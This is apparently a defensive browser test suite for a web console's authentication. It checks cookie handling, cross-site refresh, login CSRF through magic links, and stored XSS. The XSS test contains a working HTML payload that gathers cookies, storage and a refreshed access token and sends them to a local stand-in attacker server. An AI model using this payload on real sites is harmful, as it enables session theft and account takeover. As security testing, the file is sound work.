// Attacks on a user of the web console, in a real browser (Debian's chromium driven by
// playwright-core) against the real stack: stealing the session from a script, refreshing it
// from another site, signing the user into someone else's account, and a stored HTML file that
// tries to send the victim's tokens to another origin.
import { randomUUID } from 'node:crypto';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { type Browser, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { ensureConsoleBuilt } from '../sidecar/console/build.ts';
import { startStack, type Stack, launchChromium } from './harness.ts';


let stack: Stack;
let browser: Browser;
const contexts: BrowserContext[] = [];

/** The attacker's server, on another origin: every request it receives is loot. */
let collector: http.Server;
let collectorUrl = '';
const collected: Array<{ method: string; url: string; body: string }> = [];

beforeAll(async () => {
  await ensureConsoleBuilt();
  stack = await startStack({ env: { PLINTH_RATE_LIMIT_PER_IP: '1000', PLINTH_RATE_LIMIT_PER_EMAIL: '1000' } });
  browser = await launchChromium();
  collector = http.createServer((req, res) => {
    let body = '';
    req.on('data', (d) => (body += d));
    req.on('end', () => {
      collected.push({ method: req.method!, url: req.url!, body });
      res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
    });
  });
  await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
  // "localhost", not the stack's 127.0.0.1: another site altogether, as an attacker's would be.
  collectorUrl = `http://localhost:${(collector.address() as AddressInfo).port}`;
});

afterAll(async () => {
  for (const c of contexts) await c.close().catch(() => {});
  await browser?.close();
  collector?.close();
  await stack?.destroy();
});

async function newPage(): Promise<Page> {
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, acceptDownloads: true });
  contexts.push(context);
  return context.newPage();
}

const eventually = <T>(fn: () => T | Promise<T>) => expect.poll(fn, { timeout: 30_000, interval: 100 });

const newAccount = () => ({ email: `u-${randomUUID().slice(0, 8)}@security.test`, password: 'a-long-password-1' });

async function signIn(page: Page, who: { email: string; password: string }): Promise<void> {
  await page.goto(`${stack.url}/console/`);
  await page.getByLabel('Email', { exact: true }).fill(who.email);
  await page.getByLabel('Password', { exact: true }).fill(who.password);
  await page.getByRole('button', { name: 'Sign in', exact: true }).click();
  await eventually(() => page.locator('header .email').textContent()).toBe(who.email);
}

/** An account made through the API, as any client would; returns its JSON session. */
async function signUpByApi(who: { email: string; password: string }) {
  const res = await stack.fetch('/rpc/signup', { method: 'POST', json: who });
  expect(res.status).toBe(201);
  return (await res.json()) as { token: string; refresh_token: string; user: { id: string } };
}

/** The nth sign-in link mailed to `email` (without SMTP_URL, mails are written to the log). */
async function mailedLink(email: string, nth: number): Promise<string> {
  let link = '';
  await eventually(() => {
    const found = [...stack.output.matchAll(/mail to (\S+): Your sign-in link[\s\S]*?(http:\/\/\S+\/auth\/verify\?token=[\w-]+)/g)].filter((m) => m[1] === email);
    link = found[nth]?.[2] ?? '';
    return link !== '';
  }).toBe(true);
  // The mailed link names PLINTH_PUBLIC_URL; the test's browser reaches the stack on its own port.
  return `${stack.url}${new URL(link).pathname}${new URL(link).search}`;
}

/** Cookie header value for the refresh cookie of a Set-Cookie answer. */
const refreshCookieOf = (res: Response) => /plinth_refresh=([^;]*)/.exec(res.headers.get('set-cookie') ?? '')?.[1];

describe.sequential('attacks on a console user', { timeout: 180_000 }, () => {
  test('session theft by a script on the API origin: no refresh token in document.cookie or localStorage, and a reload stays signed in', async () => {
    const page = await newPage();
    const victim = newAccount();
    await page.goto(`${stack.url}/console/`);
    await page.getByRole('button', { name: 'New here? Create an account' }).click();
    await page.getByLabel('Email', { exact: true }).fill(victim.email);
    await page.getByLabel('Password', { exact: true }).fill(victim.password);
    const [signup] = await Promise.all([
      page.waitForResponse((r) => new URL(r.url()).pathname === '/rpc/signup'),
      page.getByRole('button', { name: 'Create an account' }).click(),
    ]);
    await eventually(() => page.locator('header .email').textContent()).toBe(victim.email);
    // The answer the page could read holds no refresh token; the browser keeps it in a cookie.
    expect(Object.keys(await signup.json())).toEqual(['token', 'expires_in', 'user']);
    const cookies = await page.context().cookies();
    const refresh = cookies.find((c) => c.name === 'plinth_refresh')!;
    expect(refresh).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/auth', secure: false });
    expect(refresh.value.length).toBeGreaterThan(40);

    // What any script of the origin can read: no refresh token, and no access token at rest.
    const readable = async () =>
      page.evaluate(() => ({ cookie: document.cookie, local: JSON.stringify({ ...localStorage }), session: JSON.stringify({ ...sessionStorage }) }));
    const seen = await readable();
    expect(seen.cookie).toBe('');
    expect(JSON.stringify(seen)).not.toContain(refresh.value);
    expect(JSON.stringify(seen)).not.toMatch(/refresh|token|eyJ/i);

    // A reload stays signed in: the cookie buys the new page an access token (and is rotated).
    await page.reload();
    await eventually(() => page.locator('header .email').textContent()).toBe(victim.email);
    await eventually(() => page.locator('.empty').textContent()).toContain('No files yet');
    const rotated = (await page.context().cookies()).find((c) => c.name === 'plinth_refresh')!;
    expect(rotated.value).not.toBe(refresh.value);
    const after = await readable();
    expect(JSON.stringify(after)).not.toContain(rotated.value);
    expect(JSON.stringify(after)).not.toMatch(/refresh|token|eyJ/i);
  });

  test('cross-site refresh: the cookie is used only with the console header, from the same origin; API clients are unaffected', async () => {
    const who = newAccount();
    await signUpByApi(who);
    // An API client (no X-Plinth-Session) gets refresh_token in the JSON and no cookie, as always.
    const plain = await stack.fetch('/rpc/login', { method: 'POST', json: who });
    expect(plain.headers.get('set-cookie')).toBeNull();
    const [plainBody] = await plain.json();
    expect(Object.keys(plainBody)).toEqual(['token', 'refresh_token', 'expires_in', 'user']);

    expect((await stack.fetch('/rpc/login', { method: 'POST', headers: { 'x-plinth-session': 'yes' }, json: who })).status).toBe(400);
    const login = await stack.fetch('/rpc/login', { method: 'POST', headers: { 'x-plinth-session': 'cookie' }, json: who });
    expect(login.status).toBe(200);
    const [loginBody] = await login.json();
    expect(Object.keys(loginBody)).toEqual(['token', 'expires_in', 'user']);
    expect(login.headers.get('set-cookie')).toMatch(/^plinth_refresh=[\w-]{43}; Path=\/auth; Max-Age=2592000; HttpOnly; SameSite=Strict$/);
    let cookie = `plinth_refresh=${refreshCookieOf(login)}`;

    const refreshWith = (headers: Record<string, string>) => stack.fetch('/auth/refresh', { method: 'POST', headers: { cookie, ...headers }, json: {} });
    // Without the header (a form another site submits, a plain client), the cookie is not read.
    expect((await refreshWith({})).status).toBe(400);
    // From another site, or a sibling host of the same site, it is refused even with the header.
    expect((await refreshWith({ 'x-plinth-session': 'cookie', 'sec-fetch-site': 'cross-site' })).status).toBe(403);
    expect((await refreshWith({ 'x-plinth-session': 'cookie', 'sec-fetch-site': 'same-site' })).status).toBe(403);
    expect((await refreshWith({ 'x-plinth-session': 'nonsense' })).status).toBe(400);
    // The console's own refresh: a new access token, and the cookie rotated.
    const ok = await refreshWith({ 'x-plinth-session': 'cookie', 'sec-fetch-site': 'same-origin' });
    expect(ok.status).toBe(200);
    expect(Object.keys(await ok.json())).toEqual(['token', 'expires_in', 'user']);
    const next = refreshCookieOf(ok)!;
    expect(`plinth_refresh=${next}`).not.toBe(cookie);
    cookie = `plinth_refresh=${next}`;

    // Logout in cookie mode ends the session and clears the cookie.
    const last = await refreshWith({ 'x-plinth-session': 'cookie' });
    const { token } = await last.json();
    cookie = `plinth_refresh=${refreshCookieOf(last)}`;
    const logout = await stack.fetch('/auth/logout', { method: 'POST', token, headers: { 'x-plinth-session': 'cookie' }, json: {} });
    expect(logout.status).toBe(204);
    expect(logout.headers.get('set-cookie')).toMatch(/^plinth_refresh=; Path=\/auth; Max-Age=0; HttpOnly; SameSite=Strict$/);
    // The server ended that session: the last cookie is refused, and the refusal clears it too.
    const dead = await refreshWith({ 'x-plinth-session': 'cookie' });
    expect(dead.status).toBe(401);
    expect(dead.headers.get('set-cookie')).toMatch(/Max-Age=0/);
    // The plain client's own session never depended on any of this.
    expect((await stack.fetch('/auth/refresh', { method: 'POST', json: { refresh_token: plainBody.refresh_token } })).status).toBe(200);
  });

  test('login CSRF: another user’s sign-in link asks before switching accounts; staying keeps the session and leaves the link unspent', async () => {
    const victim = newAccount();
    const attacker = newAccount();
    await signUpByApi(victim);
    await signUpByApi(attacker);
    const page = await newPage();
    await signIn(page, victim);

    // The attacker asks for a link to their own account and sends it to the victim, who opens it.
    expect((await stack.fetch('/auth/magic-link', { method: 'POST', json: { email: attacker.email } })).status).toBe(200);
    const link = await mailedLink(attacker.email, 0);
    await page.goto(link);
    const dialog = page.getByRole('dialog', { name: 'Switch to another account?' });
    await eventually(() => dialog.isVisible()).toBe(true);
    expect(await dialog.locator('.current-account').textContent()).toBe(victim.email);
    expect(await dialog.locator('.link-account').textContent()).toBe(attacker.email);
    // The safe answer has the focus: Enter keeps the victim where they were.
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe(`Stay signed in as ${victim.email}`);
    await dialog.getByRole('button', { name: `Stay signed in as ${victim.email}` }).click();
    await eventually(() => dialog.count()).toBe(0);
    expect(await page.locator('header .email').textContent()).toBe(victim.email);
    expect(new URL(page.url()).pathname).toBe('/console/');
    // Still the victim after a reload: nothing switched behind the scenes.
    await page.reload();
    await eventually(() => page.locator('header .email').textContent()).toBe(victim.email);

    // The link was not spent: opened again, "Switch" signs in as its account.
    await page.goto(link);
    await eventually(() => dialog.isVisible()).toBe(true);
    await dialog.getByRole('button', { name: `Switch to ${attacker.email}` }).click();
    await eventually(() => page.locator('header .email').textContent()).toBe(attacker.email);
    await page.reload();
    await eventually(() => page.locator('header .email').textContent()).toBe(attacker.email);
    // Now it is spent.
    const again = await stack.fetch('/auth/magic-link/account', { method: 'POST', json: { token: new URL(link).searchParams.get('token') } });
    expect(again.status).toBe(401);
  });

  test('stored XSS: a victim who opens an uploaded HTML "cover" leaks no token to the attacker', async () => {
    // The attacker: a self-registered user with a published post, whose cover is an HTML page.
    const attacker = await signUpByApi(newAccount());
    const post = await stack.fetch('/posts', {
      method: 'POST',
      token: attacker.token,
      headers: { prefer: 'return=representation' },
      json: { title: 'Look at my cover', published: true },
    });
    expect(post.status).toBe(201);
    const [{ id }] = await post.json();
    // Everything a script of the API's origin could reach: cookies, both storages, and an access
    // token from the refresh cookie. Sent two ways, in case one is blocked.
    const payload = `<!doctype html><html><body><h1>cover</h1><script>
      (async () => {
        const loot = { cookie: document.cookie, local: JSON.stringify({ ...localStorage }), session: JSON.stringify({ ...sessionStorage }) };
        try {
          const r = await fetch('/auth/refresh', { method: 'POST', headers: { 'x-plinth-session': 'cookie', 'content-type': 'application/json' }, body: '{}' });
          loot.refresh = await r.text();
        } catch (e) { loot.refresh = String(e); }
        const data = JSON.stringify(loot);
        new Image().src = ${JSON.stringify(collectorUrl)} + '/img?d=' + encodeURIComponent(data);
        fetch(${JSON.stringify(collectorUrl)} + '/post', { method: 'POST', mode: 'no-cors', body: data });
      })();
    </script></body></html>`;
    const form = new FormData();
    form.append('entity', JSON.stringify({ table: 'posts', id: String(id), field: 'cover' }));
    form.append('file', new Blob([payload], { type: 'text/html' }), 'cover.html');
    const upload = await stack.fetch('/storage/upload', { method: 'POST', token: attacker.token, body: form });
    expect(upload.status).toBe(200);
    const { url } = await upload.json();
    const publicLink = `${stack.url}${url}?apikey=${stack.anonKey}`;
    // The public link works for anyone: it is what the attacker sends around.
    expect((await fetch(publicLink)).status).toBe(200);

    // The victim is signed into the console in this browser, and opens the link in a new tab.
    const victim = newAccount();
    await signUpByApi(victim);
    const consolePage = await newPage();
    await signIn(consolePage, victim);
    const tab = await consolePage.context().newPage();
    // Served as an attachment, the page turns into a download (playwright reports the navigation
    // as aborted); rendered inline, it runs. Either way, give a script time to phone home.
    await tab.goto(publicLink).catch((err: Error) => {
      if (!/Download is starting|ERR_ABORTED/.test(err.message)) throw err;
    });
    await new Promise((r) => setTimeout(r, 3000));
    expect(collected).toEqual([]);
    // And the victim is still signed in, with a session nobody else refreshed away.
    await consolePage.reload();
    await eventually(() => consolePage.locator('header .email').textContent()).toBe(victim.email);
  });
});
